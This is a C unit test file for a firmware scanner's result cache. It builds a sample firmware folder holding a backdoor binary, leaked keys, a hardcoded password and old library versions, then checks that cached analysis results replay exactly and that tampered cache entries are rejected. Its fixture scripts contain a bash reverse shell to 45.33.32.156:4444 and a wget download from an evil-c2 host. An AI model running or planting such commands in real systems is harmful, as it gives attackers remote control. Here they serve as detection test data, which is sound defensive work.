/*
 * The analysis cache (src/analyze/cache.c and the recording and replay in
 * run.c) over a folder built here with something for every content
 * analyzer: programs compiled with cc (a magic string guarding a shell in a
 * program started at boot, which waits for binary.c's finish step), a
 * library, a script with a reverse shell and an outside URL at two paths, a
 * certificate and its private key in separate files (paired in secrets.c's
 * finish step) with a copy of the key in an examples folder, a hardcoded
 * password, OpenSSL and BusyBox version strings, /etc/passwd and /etc/shadow.
 * A run that replays every stored result must report byte for byte what the
 * run that computed them reported; a changed rules file must change only its
 * analyzer's fingerprint; hostile stored results must be misses.
 */
#include "testlib.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "analyze/cache.h"
#include "analyze/run.h"
#include "core/err.h"
#include "core/json.h"
#include "inventory/inventory.h"
#include "report/report.h"
#include "unpack/engine.h"

static char g_dir[64], g_fw[128];

/* Results saved by a run, as the store would keep them. */
struct saved {
	char *sha, *an, *in, *res;
};
static struct saved *g_saved;
static size_t g_nsaved;
static char *g_cold; /* the cold run's report */

static void cc(const char *flags, const char *src, const char *out)
{
	fv_test_sh(NULL, "mkdir -p \"$(dirname '%s/%s')\" && cc %s -w -o '%s/%s' \"$FV_SRCDIR/tests/fixtures/src/%s.c\"",
		   g_fw, out, flags, g_fw, out, src);
}

static int setup(void **state)
{
	(void)state;
	setenv("SOURCE_DATE_EPOCH", "1700000000", 1);
	fv_test_tmpdir(g_dir, sizeof g_dir, "acache");
	snprintf(g_fw, sizeof g_fw, "%s/fw", g_dir);
	cc("-O2", "bd_local", "usr/bin/console");
	cc("-O2", "bd_shell", "usr/sbin/mgmtd");
	cc("-O2 -no-pie -fno-stack-protector -Wl,-z,norelro", "callsites", "usr/bin/weak");
	cc("-O2 -fPIC -shared", "harden_lib", "lib/libharden.so");
	fv_test_put(g_fw, "etc/inittab", "::sysinit:/etc/init.d/rcS\n::respawn:/usr/bin/console\n");
	const char *rcs = "#!/bin/sh\n"
			  "bash -i >& /dev/tcp/45.33.32.156/4444 0>&1\n"
			  "wget http://updates.evil-c2.net/fw.bin -O /tmp/x\n";
	fv_test_put(g_fw, "etc/init.d/rcS", rcs);
	fv_test_put(g_fw, "usr/bin/update.sh", rcs);
	fv_test_put(g_fw, "etc/app.conf", "[admin]\nadmin_password=Sup3rS3cret!\n");
	fv_test_sh(g_fw, "mkdir -p etc/ssl/private usr/share/doc/examples && "
			 "openssl req -x509 -newkey rsa:2048 -nodes -days 3650 -subj /CN=router.example.com "
			 "-keyout etc/ssl/private/server.key -out etc/ssl/server.crt 2>/dev/null && "
			 "cp etc/ssl/private/server.key usr/share/doc/examples/server.key && "
			 "cp etc/ssl/private/server.key etc/ssl/private/backup.key");
	fv_test_sh(g_fw, "head -c 4096 /dev/zero > lib/libcrypto.so.1.0.0 && "
			 "printf 'OpenSSL 1.0.1f 6 Jan 2014\\0' >> lib/libcrypto.so.1.0.0 && "
			 "mkdir -p bin && printf 'BusyBox v1.24.1 (2016-01-01 00:00:00 UTC) multi-call binary\\0' > bin/busybox");
	fv_test_sh(g_fw, "printf 'root:x:0:0:root:/root:/bin/sh\\nadmin:x:1000:1000::/home/admin:/bin/sh\\n' > etc/passwd && "
			 "printf 'root:%%s:19000:0:99999:7:::\\nadmin::19000:0:99999:7:::\\n' \"$(openssl passwd -1 -salt fwvet admin)\" "
			 "> etc/shadow");
	return 0;
}

static int teardown(void **state)
{
	(void)state;
	for (size_t i = 0; i < g_nsaved; i++) {
		free(g_saved[i].sha);
		free(g_saved[i].an);
		free(g_saved[i].in);
		free(g_saved[i].res);
	}
	free(g_saved);
	free(g_cold);
	return fv_test_rmtree(g_dir);
}

static int save(void *ctx, const char *sha, const char *an, const char *in, const char *res)
{
	size_t *n = ctx;
	g_saved = realloc(g_saved, (g_nsaved + 1) * sizeof *g_saved);
	assert_non_null(g_saved);
	g_saved[g_nsaved++] = (struct saved){ strdup(sha), strdup(an), strdup(in), strdup(res) };
	(*n)++;
	return 0;
}

static int count(void *ctx, const char *sha, const char *an, const char *in, const char *res)
{
	(void)sha, (void)an, (void)in, (void)res;
	(*(size_t *)ctx)++;
	return 0;
}

static double now_s(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

struct run {
	struct fv_results res;
	char *report;
	size_t hits, misses, fresh;
	size_t kept;    /* stored results the cache took */
	double seconds; /* of the analysis */
};

/*
 * Analyses dir with rules_dir (NULL: shipped) and a cache holding the
 * stored results given (mutated by mutate when it is set); saves what the
 * run computed when keep is set.
 */
static void analyse(const char *dir, const char *rules_dir, int use_cache, int keep,
		    char *(*mutate)(const char *res, size_t i), struct run *out)
{
	memset(out, 0, sizeof *out);
	char err[512] = "";
	struct fv_unpack u;
	struct fv_inventory inv;
	if (fv_inventory_walk(dir, &u, err, sizeof err) != FV_OK ||
	    fv_inventory_build(&u, dir, 2, &inv, err, sizeof err) != FV_OK)
		fail_msg("inventory of %s: %s", dir, err);
	struct fv_aopts o = { .rules_dir = rules_dir, .threads = 4 };
	struct fv_actx *a;
	if (fv_analysis_open(&o, &a, err, sizeof err) != FV_OK)
		fail_msg("analysis: %s", err);
	struct fv_acache *c = NULL;
	if (use_cache) {
		assert_int_equal(fv_acache_new(&c), FV_OK);
		assert_int_equal(fv_analysis_set_cache(a, c), FV_OK);
		for (size_t i = 0; i < g_nsaved; i++) {
			char *res = mutate ? mutate(g_saved[i].res, i) : strdup(g_saved[i].res);
			int r = fv_acache_put(c, g_saved[i].sha, g_saved[i].an, g_saved[i].in, res);
			assert_true(r == 0 || r == 1);
			out->kept += (size_t)r;
			free(res);
		}
	}
	double t0 = now_s();
	assert_int_equal(fv_analysis_run(a, &inv, &out->res), FV_OK);
	out->seconds = now_s() - t0;
	if (c) {
		fv_analysis_set_cache(a, NULL);
		out->hits = fv_acache_hits(c);
		out->misses = fv_acache_misses(c);
		size_t n = 0;
		assert_int_equal(fv_acache_each_new(c, keep ? save : count, &n), 0);
		out->fresh = n;
	}
	char *buf = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&buf, &len);
	assert_non_null(f);
	struct fv_json j;
	fv_json_init(&j, f, 1);
	struct fv_report r = { .u = &u, .inv = &inv, .res = &out->res, .rules_sha256 = fv_analysis_rules_sha256(a),
				.elapsed_ms = 1234, .vulndb_date = fv_analysis_vulndb_date(a),
				.vulndb_sha256 = fv_analysis_vulndb_sha256(a) };
	fv_report_json(&j, &r);
	fclose(f);
	out->report = buf;
	fv_acache_free(c);
	fv_analysis_close(a);
	fv_inventory_free(&inv);
	fv_unpack_free(&u);
}

static void run_free(struct run *r)
{
	fv_results_free(&r->res);
	free(r->report);
}

static size_t saved_of(const char *an)
{
	size_t n = 0;
	for (size_t i = 0; i < g_nsaved; i++)
		n += !strcmp(g_saved[i].an, an);
	return n;
}

/* Where two reports first differ, for a failing test. */
static void same_report(const char *x, const char *y)
{
	if (!strcmp(x, y))
		return;
	size_t i = 0;
	while (x[i] && x[i] == y[i])
		i++;
	size_t b = i > 200 ? i - 200 : 0;
	fail_msg("reports differ at byte %zu:\n--- cold\n%.400s\n--- warm\n%.400s", i, x + b, y + b);
}

static void test_warm_is_cold(void **state)
{
	(void)state;
	struct run cold, cold2, warm;
	/* Without a cache, and with an empty one: the same report, every cacheable result new. */
	analyse(g_fw, NULL, 0, 0, NULL, &cold2);
	analyse(g_fw, NULL, 1, 1, NULL, &cold);
	same_report(cold2.report, cold.report);
	assert_int_equal(cold.hits, 0);
	assert_true(cold.misses > 0);
	assert_int_equal(cold.fresh, g_nsaved);
	/* Every content analyzer left results, and the state-keeping ones left what finish() needs. */
	const char *const ans[] = { "credentials", "backdoor", "secrets", "network", "binary", "components" };
	for (size_t i = 0; i < sizeof ans / sizeof *ans; i++)
		if (!saved_of(ans[i]))
			fail_msg("no stored result of %s", ans[i]);
	assert_int_equal(saved_of("accounts") + saved_of("services") + saved_of("supply"), 0);
	int pend = 0, refs = 0;
	for (size_t i = 0; i < g_nsaved; i++) {
		pend |= !strcmp(g_saved[i].an, "binary") && strstr(g_saved[i].res, "\"pending\":[[");
		refs |= !strcmp(g_saved[i].an, "secrets") && strstr(g_saved[i].res, "\"refs\":[[");
		/* Sorted by content, then analyzer. */
		if (i)
			assert_true(strcmp(g_saved[i - 1].sha, g_saved[i].sha) < 0 ||
				    (!strcmp(g_saved[i - 1].sha, g_saved[i].sha) &&
				     strcmp(g_saved[i - 1].an, g_saved[i].an) < 0));
	}
	assert_true(pend && refs);
	fv_test_must(&cold.res, "FV-BIN-001", "/usr/bin/console", "pR0d#Dbg7");
	fv_test_must(&cold.res, "FV-SECR-002", "/etc/ssl/server.crt", "router.example.com");
	fv_test_must(&cold.res, "FV-NET-002", "/usr/bin/update.sh", "/dev/tcp/45.33.32.156/4444");

	analyse(g_fw, NULL, 1, 0, NULL, &warm);
	printf("# cold %.3f s, warm %.3f s: %zu hits, %zu misses, %zu results stored\n", cold.seconds,
	       warm.seconds, warm.hits, warm.misses, g_nsaved);
	assert_int_equal(warm.kept, g_nsaved);
	assert_int_equal(warm.hits, g_nsaved);
	assert_int_equal(warm.misses, 0);
	assert_int_equal(warm.fresh, 0);
	same_report(cold.report, warm.report);
	g_cold = cold.report;
	cold.report = NULL;
	run_free(&cold);
	run_free(&cold2);
	run_free(&warm);
}

/* The fingerprints of the analyzers opened with rules_dir, in run order. */
static void inputs_of(const char *rules_dir, char names[][32], char inputs[][65], size_t *n)
{
	char err[512];
	struct fv_aopts o = { .rules_dir = rules_dir, .threads = 1 };
	struct fv_actx *a;
	if (fv_analysis_open(&o, &a, err, sizeof err) != FV_OK)
		fail_msg("analysis: %s", err);
	*n = fv_analysis_ninputs(a);
	assert_true(*n > 0 && *n <= 16);
	for (size_t i = 0; i < *n; i++) {
		const char *nm, *in;
		fv_analysis_input(a, i, &nm, &in);
		assert_int_equal(strlen(in), 64);
		snprintf(names[i], 32, "%s", nm);
		snprintf(inputs[i], 65, "%s", in);
	}
	fv_analysis_close(a);
}

static void test_rules_change(void **state)
{
	(void)state;
	assert_true(g_nsaved > 0); /* after test_warm_is_cold */
	char rules[160];
	snprintf(rules, sizeof rules, "%s/rules", g_dir);
	fv_test_sh(NULL, "cp -r \"$FV_SRCDIR/rules\" '%s'", rules);
	char n1[16][32], i1[16][65], n2[16][32], i2[16][65];
	size_t k1, k2;
	/* A copy elsewhere is the same input. */
	inputs_of(NULL, n1, i1, &k1);
	inputs_of(rules, n2, i2, &k2);
	assert_int_equal(k1, k2);
	for (size_t i = 0; i < k1; i++) {
		assert_string_equal(n1[i], n2[i]);
		assert_string_equal(i1[i], i2[i]);
	}
	/* One component rule edited: only the components analyzer's inputs change. */
	fv_test_sh(NULL, "printf '# edited\\n' >> '%s/components/openssl.txt'", rules);
	inputs_of(rules, n2, i2, &k2);
	for (size_t i = 0; i < k1; i++) {
		if (!strcmp(n1[i], "components"))
			assert_string_not_equal(i1[i], i2[i]);
		else
			assert_string_equal(i1[i], i2[i]);
	}
	/* Its stored results are not used; every other one is. */
	struct run r;
	analyse(g_fw, rules, 1, 0, NULL, &r);
	size_t comps = saved_of("components");
	assert_int_equal(r.kept, g_nsaved - comps);
	assert_int_equal(r.hits, g_nsaved - comps);
	assert_int_equal(r.misses, comps);
	assert_int_equal(r.fresh, comps);
	fv_test_must(&r.res, "FV-SECR-002", "/etc/ssl/server.crt", "router.example.com");
	run_free(&r);
}

/* Stored results as a hostile store could hold them. */
static char *hostile(const char *res, size_t i)
{
	size_t n = strlen(res);
	char *o = malloc(n * 24 + 256);
	assert_non_null(o);
	switch (i % 8) {
	case 0: /* truncated */
		snprintf(o, n * 24 + 256, "%.*s", (int)(n / 2), res);
		break;
	case 1: /* every number huge */
	{
		size_t k = 0;
		for (size_t p = 0; p < n;) {
			if (res[p] >= '0' && res[p] <= '9') {
				k += (size_t)sprintf(o + k, "99999999999999999999999");
				while (p < n && res[p] >= '0' && res[p] <= '9')
					p++;
			} else {
				o[k++] = res[p++];
			}
		}
		o[k] = 0;
		if (!strcmp(o, res)) /* nothing to overflow: one number that does */
			snprintf(o, n * 24 + 256, "{\"r\":[[\"e\",\"h\",\"host\",18446744073709551616,0]],\"v\":\"x\"}");
		break;
	}
	case 2: /* wrong types */
		snprintf(o, n * 24 + 256, "{\"r\":{\"f\":1},\"v\":[1,2]}");
		break;
	case 3: /* a record of the wrong shape, after the real ones */
	{
		const char *r = strstr(res, "\"r\":[");
		if (!r) {
			snprintf(o, n * 24 + 256, "null");
			break;
		}
		size_t at = (size_t)(r - res) + 5;
		snprintf(o, n * 24 + 256, "%.*s[\"b\",{\"calls\":[[\"strcpy\",-1]],\"nx\":\"yes\"}],%s", (int)at, res,
			 res + at);
		break;
	}
	case 4: /* a finding at a path the content does not have */
	{
		const char *r = strstr(res, "\"r\":[");
		size_t at = r ? (size_t)(r - res) + 5 : 0;
		snprintf(o, n * 24 + 256, "%.*s[\"p\",4000000000,\"FV-X\",\"x\",3,3,0,null,\"t\"],%s", (int)at, res,
			 res + at);
		break;
	}
	case 5: /* state for finish() that is not what the analyzer keeps */
	{
		const char *r = strstr(res, "\"r\":[");
		size_t at = r ? (size_t)(r - res) : 0;
		snprintf(o, n * 24 + 256, "%.*s\"k\":{\"pending\":[[0,\"FV-X\",9,1,2]],\"table\":[1],\"refs\":7,"
			 "\"until\":-5},%s", (int)at, res, res + at);
		break;
	}
	case 6: /* an unknown record, severity out of range */
		snprintf(o, n * 24 + 256, "{\"r\":[[\"f\",\"a\",\"b\",77,1,0,null,\"t\"],[\"zz\"]],\"v\":\"elf\"}");
		break;
	default: /* not JSON at all */
		snprintf(o, n * 24 + 256, "\x01\xff%s", n ? "garbage" : "");
		break;
	}
	return o;
}

static void test_hostile(void **state)
{
	(void)state;
	assert_true(g_nsaved > 0);
	struct run r;
	analyse(g_fw, NULL, 1, 0, hostile, &r);
	/* Every one is a miss (the result is computed again), and the report is the same. */
	assert_int_equal(r.hits, 0);
	assert_int_equal(r.misses, g_nsaved);
	assert_int_equal(r.fresh, g_nsaved);
	same_report(g_cold, r.report);
	run_free(&r);

	/* Results of unknown analyzers, other inputs or a bad hash are ignored. */
	struct fv_acache *c;
	assert_int_equal(fv_acache_new(&c), FV_OK);
	assert_int_equal(fv_acache_put(c, g_saved[0].sha, g_saved[0].an, g_saved[0].in, "{}"), 0); /* not bound */
	char err[512];
	struct fv_aopts o = { .threads = 1 };
	struct fv_actx *a;
	assert_int_equal(fv_analysis_open(&o, &a, err, sizeof err), FV_OK);
	assert_int_equal(fv_analysis_set_cache(a, c), FV_OK);
	assert_int_equal(fv_acache_put(c, g_saved[0].sha, "nosuch", g_saved[0].in, "{}"), 0);
	assert_int_equal(fv_acache_put(c, g_saved[0].sha, g_saved[0].an, "0000", "{}"), 0);
	assert_int_equal(fv_acache_put(c, "../etc", g_saved[0].an, g_saved[0].in, "{}"), 0);
	assert_int_equal(fv_acache_put(c, g_saved[0].sha, g_saved[0].an, g_saved[0].in, "{}"), 1);
	assert_int_equal(fv_acache_put(c, g_saved[0].sha, g_saved[0].an, g_saved[0].in, g_saved[0].res), 1);
	fv_analysis_close(a);
	fv_acache_free(c);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_warm_is_cold),
		cmocka_unit_test(test_rules_change),
		cmocka_unit_test(test_hostile),
	};
	return cmocka_run_group_tests(tests, setup, teardown);
}
